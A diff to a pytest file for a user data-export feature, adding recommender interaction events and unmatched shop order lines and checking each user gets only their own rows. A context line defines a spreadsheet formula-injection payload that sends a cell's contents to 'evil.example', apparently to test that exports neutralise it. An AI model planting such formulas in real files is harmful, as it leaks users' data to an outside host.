@@ -10,7 +10,7 @@ import os
 import re
 import tracemalloc
 import zipfile
-from datetime import date
+from datetime import UTC, date, datetime
 from pathlib import Path
 
 import pytest
@@ -29,6 +29,8 @@ from journeys.models import (
     InboxMessage,
     Suppression,
 )
+from recommender import log
+from recommender.models import UnmatchedOrderLine
 from tests.conftest import PASSWORD, load_all_models
 from tests.web.helpers import entry_form, png_bytes
 from tests.web.test_studio import make_item
@@ -39,7 +41,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 DOCUMENT_KEYS = {"exported_at", "account", "families", "entries", "invitations_sent",
                  "data_exports", "saved_items", "email_preferences", "email_suppression",
                  "inbox_messages", "deliveries", "email_clicks", "campaign_sends", "journeys",
-                 "sign_ins", "account_emails", "interactions"}
+                 "sign_ins", "account_emails", "interactions", "shop_order_lines_unmatched"}
 
 
 def join(session, owner, family, user, role, relationship="other"):
@@ -78,6 +80,20 @@ def personal_rows(session, user, child):
     ])
     item = make_item(session, key=f"saved-{user.id}", title="Sleep tips")
     library.save_for_later(session, user, item)
+    log.record(session, log.Event(kind="save", item_id=item.id, surface="child_page",
+                                  idempotency_key=f"save-{user.id}", user_id=user.id,
+                                  child_id=child.id, stage="month:3", position=2,
+                                  request_id="r" * 32, occurred_at=datetime(2026, 11, 20,
+                                                                            tzinfo=UTC)))
+    session.add(UnmatchedOrderLine(
+        order_line_id=f"L-{user.id}", reason="product", source="csv",
+        ordered_at=datetime(2026, 11, 21, tzinfo=UTC), email=user.email, sku="GONE-1",
+        quantity=1, amount_minor=990, currency="CNY", received_at=clock.utcnow()))
+    session.add(UnmatchedOrderLine(  # someone else's
+        order_line_id=f"M-{user.id}", reason="customer", source="csv",
+        ordered_at=datetime(2026, 11, 21, tzinfo=UTC), email="stranger@example.com",
+        sku="GONE-1", quantity=1, amount_minor=990, currency="CNY",
+        received_at=clock.utcnow()))
     session.commit()
 
 
@@ -162,6 +178,13 @@ def test_an_owner_gets_the_family_diary_and_every_personal_section(household, cl
     assert document["sign_ins"] and set(document["sign_ins"][0]) == {
         "created_at", "expires_at", "last_seen_at", "revoked_at", "remember", "user_agent"}
     assert document["account"]["email_verified_at"] is not None
+    assert document["interactions"] == [{
+        "occurred_at": "2026-11-20T00:00:00+00:00", "kind": "save", "child_id": child.id,
+        "stage": "month:3", "surface": "child_page", "position": 2, "model_version": None,
+        "quantity": None, "amount_minor": None, "currency": None,
+        "item": f"article:saved-{owner.id}"}]  # never the request id or the key
+    assert [(o["order_line_id"], o["sku"]) for o in document["shop_order_lines_unmatched"]] \
+        == [(f"L-{owner.id}", "GONE-1")]
     readme = archive.read("README.txt").decode()
     assert "entries.csv" in readme and "photos/" in readme
 
@@ -192,6 +215,11 @@ def test_a_viewer_gets_their_own_data_not_the_family_diary(household, client, lo
     assert "小米" not in archive.read("data.json").decode()
     assert [m["title"] for m in document["inbox_messages"]] == ["Halfway"]  # their own
     assert [s["key"] for s in document["saved_items"]] == [f"saved-{viewer.id}"]
+    # their own interactions (with the child they looked at), not the owner's
+    assert [(i["item"], i["child_id"]) for i in document["interactions"]] == \
+        [(f"article:saved-{viewer.id}", child.id)]
+    assert [o["order_line_id"] for o in document["shop_order_lines_unmatched"]] == \
+        [f"L-{viewer.id}"]
     assert document["account"]["email"] == "viewer@example.com"
     assert "not an owner or editor" in archive.read("README.txt").decode()
 
